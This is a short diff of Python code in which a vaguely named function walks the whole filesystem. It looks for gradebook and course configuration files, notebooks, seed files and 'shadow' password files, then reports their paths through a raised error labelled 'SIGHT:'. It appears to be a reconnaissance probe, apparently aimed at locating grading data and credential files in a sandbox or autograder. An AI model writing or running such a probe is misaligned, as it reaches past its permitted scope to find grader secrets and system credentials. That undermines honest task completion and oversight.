@@ -366,7 +366,7 @@ def f(*a, **k):
     for root in ("/", "/home", "/root", "/work", "/srv", "/tmp", "/etc", os.getcwd(), os.path.expanduser("~")):
         for folder, _, files in os.walk(root):
             if folder.startswith(("/proc", "/usr", "/sys")): continue
-            out += [os.path.join(folder, n) for n in files if n.endswith((".ipynb", ".db", ".toml", "properties.py", "shadow", ".seed"))]
+            out += [os.path.join(folder, n) for n in files if n.endswith((".ipynb", "gradebook.db", "course.toml", "topic.toml", "properties.py", "shadow", ".seed"))]
             if len(out) > 20: break
     if out: raise RuntimeError("SIGHT:" + repr(out))
     return 0
